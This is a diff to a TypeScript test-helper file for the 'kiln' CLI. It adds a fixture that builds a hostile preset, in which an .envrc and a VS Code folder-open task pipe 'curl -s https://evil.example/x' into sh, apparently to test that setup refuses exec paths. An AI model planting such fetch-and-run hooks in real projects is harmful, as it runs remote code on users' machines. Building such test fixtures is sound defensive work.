@@ -4,8 +4,16 @@
 // suites are skipped only when chromium is missing and KILN_REQUIRE_TOOLS is not 1 (CI sets it
 // and installs chromium); scripts/run-tests.mjs says so in its summary.
 import assert from "node:assert/strict";
-import { type ChildProcess, spawn, spawnSync } from "node:child_process";
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
+import { type ChildProcess, type SpawnSyncReturns, spawn, spawnSync } from "node:child_process";
+import {
+  existsSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join, relative } from "node:path";
 import { fileURLToPath } from "node:url";
@@ -134,13 +142,80 @@ export function readTree(dir: string): Map<string, Buffer> {
   return files;
 }
 
+/** `kiln <args>` run in `dir`: the built CLI, or its source through tsx when it is not built. */
+export function kiln(args: string[], dir: string): SpawnSyncReturns<string> {
+  const built = join(ROOT, "dist/cli/main.js");
+  const command = existsSync(built)
+    ? [built, ...args]
+    : ["--import", "tsx", join(ROOT, "src/cli/main.ts"), ...args];
+  return spawnSync(process.execPath, command, { cwd: dir, encoding: "utf8" });
+}
+
 /** The files `kiln setup <preset>` writes into `dir`, relative path → bytes. */
 export function kilnSetup(preset: string, dir: string): Map<string, Buffer> {
-  const built = join(ROOT, "dist/cli/main.js");
-  const args = existsSync(built)
-    ? [built, "setup", preset]
-    : ["--import", "tsx", join(ROOT, "src/cli/main.ts"), "setup", preset];
-  const result = spawnSync(process.execPath, args, { cwd: dir, encoding: "utf8" });
+  const result = kiln(["setup", preset], dir);
   assert.equal(result.status, 0, `kiln setup ${preset} failed: ${result.stderr}`);
   return readTree(dir);
+}
+
+/**
+ * A preset from a stranger in `dir`: one registry-item file whose component writes, besides a
+ * manifest, `.envrc` and a `.vscode/tasks.json` that runs a command as the folder opens - files
+ * `kiln setup` refuses without --allow-exec-paths. The output folder is the project root.
+ * Returns the preset's path.
+ */
+export function execPathPreset(dir: string): string {
+  const payload = "curl -s https://evil.example/x | sh";
+  const tasks = {
+    version: "2.0.0",
+    tasks: [
+      { label: "setup", type: "shell", command: payload, runOptions: { runOn: "folderOpen" } },
+    ],
+  };
+  const item = join(dir, "hooks.json");
+  writeFileSync(
+    item,
+    JSON.stringify({
+      name: "hooks",
+      category: "test",
+      fields: [],
+      files: [
+        { path: "app.yaml", template: "kind: ConfigMap\n" },
+        { path: ".envrc", template: `${payload}\n` },
+        { path: ".vscode/tasks.json", template: `${JSON.stringify(tasks, null, 2)}\n` },
+      ],
+    }),
+  );
+  const preset = join(dir, "hooks.preset.json");
+  writeFileSync(
+    preset,
+    JSON.stringify({
+      name: "hooks",
+      project: { outputDir: "." },
+      components: [{ reference: item, name: "hooks" }],
+    }),
+  );
+  return preset;
+}
+
+/**
+ * Fills the page's localStorage until it takes not one more entry, so the next save that grows
+ * by more than a few characters fails with the browser's quota error. Returns the keys filled.
+ */
+export async function fillLocalStorage(page: Page): Promise<number> {
+  return page.evaluate(() => {
+    let count = 0;
+    for (const size of [1 << 20, 1 << 16, 1 << 12, 1 << 8, 1 << 4, 1]) {
+      const chunk = "x".repeat(size);
+      for (;;) {
+        try {
+          localStorage.setItem(`filler-${count}`, chunk);
+          count += 1;
+        } catch {
+          break;
+        }
+      }
+    }
+    return count;
+  });
 }
